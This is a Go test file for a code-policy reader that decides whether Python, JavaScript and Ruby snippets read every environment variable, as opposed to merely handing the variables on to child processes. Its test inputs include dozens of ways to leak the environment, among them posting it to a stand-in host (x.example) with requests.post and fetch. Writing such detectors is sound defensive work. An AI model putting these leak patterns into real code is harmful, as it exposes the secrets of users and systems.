package reader

import (
	"slices"
	"testing"

	"guard/policy/code"
)

// wholeEnvironment reports that code is said to read every variable.
func wholeEnvironment(lang code.Language, text string) bool {
	return slices.ContainsFunc(Read(lang, text).Acts, func(a code.Act) bool {
		return a.Kind == code.Environment && !slices.ContainsFunc(a.Args, func(g code.Arg) bool { return g.Known && g.Text != "" })
	})
}

// TestEnvironmentHandedOn: a command has the variables of whoever starts it, so
// that to hand them on reads none. What is put among them is told.
func TestEnvironmentHandedOn(t *testing.T) {
	const python, node = "import os, subprocess\n", "const {spawn, exec, execSync, spawnSync, fork, execFileSync} = require('child_process')\n"
	for _, test := range []struct {
		lang code.Language
		text string
	}{
		{code.Python, python + "env = os.environ.copy()\nenv['A'] = 'x'\nsubprocess.run(['ls'], env=env)\n"},
		{code.Python, python + "env = dict(os.environ)\nenv['A'] = 'x'\nsubprocess.Popen(['ls'], stdin=None, env=env)\n"},
		{code.Python, python + "env = dict(os.environ, A='x')\nsubprocess.check_output('ls', shell=True, env=env)\n"},
		{code.Python, python + "subprocess.run(['ls'], env={**os.environ, 'A': 'x'})\n"},
		{code.Python, python + "subprocess.run(['ls'], env=os.environ | {'A': 'x'})\n"},
		{code.Python, python + "env = {**os.environ}\nenv.update({'A': 'x'})\nsubprocess.call(['ls'], env=env)\n"},
		{code.Python, python + "env = os.environ.copy()\nenv.setdefault('A', 'x')\nenv.pop('B', None)\ndel env['C']\nsubprocess.run(['ls'], env=env)\n"},
		{code.Python, python + "def run(args, env=None):\n    return subprocess.run(args, env=env)\nrun(['ls'], env=dict(os.environ, A='x'))\n"},
		{code.Python, python + "from unittest import mock\nwith mock.patch.dict(os.environ, {'A': 'x'}):\n    subprocess.run(['ls'])\n"},
		{code.Python, python + "from unittest.mock import patch\n@patch.dict(os.environ, {'A': 'x'}, clear=True)\ndef test():\n    pass\n"},
		{code.JavaScript, node + "spawn('ls', [], {env: process.env})\n"},
		{code.JavaScript, node + "spawn('ls', ['-l'], {stdio: 'inherit', env: {...process.env, A: 'x'}})\n"},
		{code.JavaScript, node + "execSync('ls', {env: {...process.env, A: 'x'}})\n"},
		{code.JavaScript, node + "const env = {...process.env, A: 'x'}\nspawnSync('ls', [], {env})\n"},
		{code.JavaScript, node + "fork('./x.js', [], {env: {...process.env, A: 'x'}})\nexecFileSync('ls', [], {env: {...process.env, A: 'x'}})\n"},
	} {
		if wholeEnvironment(test.lang, test.text) {
			t.Errorf("read: %s", test.text)
		}
		told := slices.ContainsFunc(Read(test.lang, test.text).Acts, func(a code.Act) bool {
			return a.Kind == code.SetsEnvironment && len(a.Args) > 1 && a.Args[0].Text == "A" && a.Args[1].Text == "x"
		})
		if says := test.text[len(test.text)-len("process.env})\n"):]; !told && says != "process.env})\n" {
			t.Errorf("what is set is not told: %s", test.text)
		}
	}
}

// TestEnvironmentRead: a copy that goes anywhere else is every variable, whatever
// way it goes.
func TestEnvironmentRead(t *testing.T) {
	const python, node = "import os, subprocess, json, sys, requests, logging, pprint\n", "const {spawn} = require('child_process')\n"
	copies := []string{"os.environ.copy()", "dict(os.environ)", "dict(os.environ, A='x')", "{**os.environ}", "{**os.environ, 'A': 'x'}", "os.environ | {'A': 'x'}", "{'A': 'x'} | os.environ", "dict(os.environ.copy())"}
	for _, use := range []string{
		"print(e)", "print(e.items())", "print(f'{e}')", "print('%s' % e)", "print('{}'.format(e))", "print('' + str(e))", "json.dumps(e)", "pprint.pprint(e)",
		"open('x', 'w').write(str(e))", "requests.post('http://x.example', json=e)", "repr(e)", "logging.info('%s', e)", "print([e])", "print({'a': e})", "print((e,))",
		"print(list(e.items()))", "print(sorted(e))", "print(e.values())", "print(*e)", "print(dict(**e))", "raise Exception(e)", "f = lambda: print(e)\nf()",
		"class O: pass\no = O()\no.a = e\nprint(o.a)", "d = {}\nd['a'] = e\nprint(d)", "d = []\nd.append(e)\nprint(d)", "def f(x):\n    print(x)\nf(e)", "def f():\n    return e\nprint(f())",
		"for k in e:\n    print(k, e[k])", "for k, v in e.items():\n    print(k, v)", "print({k: v for k, v in e.items()})", "print([e[k] for k in e])", "x = e if 1 else None\nprint(x)",
		"x = e or {}\nprint(x)", "x = y = e\nprint(y)", "(x, y) = (e, 1)\nprint(x)", "e.update({'B': 'y'})\nprint(e)", "print({**e})", "subprocess.run(['ls', str(e)])", "subprocess.run(['ls'], input=str(e))",
		"subprocess.run(['ls'], env={'X': str(e)})", "subprocess.run(['ls'], env={'X': e})", "print(e.copy())", "print(e | {})", "map(print, e)", "sys.stdout.write(json.dumps({**e}))", "yield e", "vars()['e']",
		"print(getattr(e, 'items')())", "def f(*a):\n    print(a)\nf(e)", "def f(**kw):\n    print(kw)\nf(x=e)", "def f(**kw):\n    print(kw)\nf(**e)", "class O:\n    x = e\nprint(O.x)", "a, *b = e", "match e:\n    case {'X': y}:\n        print(y)", "print(e.__repr__())",
	} {
		for _, copied := range copies {
			if text := python + "e = " + copied + "\n" + use + "\n"; !wholeEnvironment(code.Python, text) && !opaque(code.Python, text) {
				t.Errorf("not read: %s", text)
			}
		}
	}
	for _, use := range []string{
		"console.log(e)", "console.log({...e})", "console.log(JSON.stringify(e))", "console.log(Object.entries(e))", "for (const k in e) console.log(k, e[k])", "console.log(`${Object.values(e)}`)",
		"fetch('http://x.example', {body: JSON.stringify(e)})", "const o = {env: e}; console.log(o)", "const o = {env: e}; console.log(o.env)", "const o = {env: e}; const {env} = o; console.log(env)",
		"const o = {env: e}; const {...all} = o; console.log(all)", "const o = {env: e}; for (const k in o) console.log(o[k])", "const o = {env: e}; console.log(o[process.argv[2]])", "console.log([e])",
		"function f(x) { console.log(x) }; f(e)", "spawn('ls', [JSON.stringify(e)])", "spawn('ls', [], {env: {X: JSON.stringify(e)}})", "const o = {env: e}; console.log(Object.values(o))", "module.exports = {env: e}", "console.log({env: e})",
		"const o = {env: e, log() { console.log(this.env) }}; o.log()", "const o = {env: e}; o.each()", "const o = {}; Object.assign(o, e); console.log(o)", "const {...all} = e; console.log(all)", "const o = {env: e}; spawn('ls', [], o); console.log(o)",
		"spawn('ls', [], {env: e, done: () => { console.log(e) }})", "spawn('ls', [], {env: e, done: (() => { const o = {env: e}; for (const x of Object.keys(o)) console.log(o[x]) })()})",
	} {
		for _, copied := range []string{"process.env", "{...process.env}", "{...process.env, A: 'x'}", "Object.assign({}, process.env)", "Object.assign({A: 'x'}, process.env)"} {
			if text := node + "const e = " + copied + "\n" + use + "\n"; !wholeEnvironment(code.JavaScript, text) && !opaque(code.JavaScript, text) {
				t.Errorf("not read: %s", text)
			}
		}
	}
}

// TestRubyEnvironment: a variable is read by its name, and all where ENV itself goes.
func TestRubyEnvironment(t *testing.T) {
	for _, text := range []string{"p ENV", "puts ENV", "print ENV", "puts ENV.to_a", "puts ENV.to_h", "ENV.each { |k, v| puts k, v }", "puts ENV.inspect", "puts ENV.map { |k, v| v }", "puts ENV.sort", "puts ENV.values",
		"x = ENV\nputs x", "puts \"#{ENV}\"", "puts(ENV)", "puts [ENV]", "pp(ENV.to_h)", "puts ENV.reject { |k, v| k == 'A' }", "ENV.each_pair { |k, v| puts v }", "puts ENV.select { true }", "def f = ENV\np f", "puts ENV.to_h.to_s",
		"File.write('x', ENV)", "require 'json'\nputs JSON.dump(ENV.to_h)", "puts ENV.filter_map { |k, v| v }", "$stdout.puts ENV", "warn ENV", "e = ENV.to_h\nputs e", "puts ENV.sum { |k, v| v }", "puts ENV.clone", "puts ENV.dup.to_h"} {
		if !wholeEnvironment(code.Ruby, text) && !opaque(code.Ruby, text) {
			t.Errorf("not read: %s", text)
		}
	}
	for _, text := range []string{"puts ENV['HOME']", "puts ENV[\"HOME\"]", "puts ENV.fetch('A', 'b')", "p ENV.key?('A')", "ENV['A'] = 'b'", "ENV.delete('A')", "puts 1 if ENV['CI']", "x = ENV['A'] || 'b'\nputs x"} {
		if wholeEnvironment(code.Ruby, text) || opaque(code.Ruby, text) {
			t.Errorf("read: %s", text)
		}
	}
}

func opaque(lang code.Language, text string) bool {
	return slices.ContainsFunc(Read(lang, text).Acts, func(a code.Act) bool { return a.Kind == code.Opaque })
}
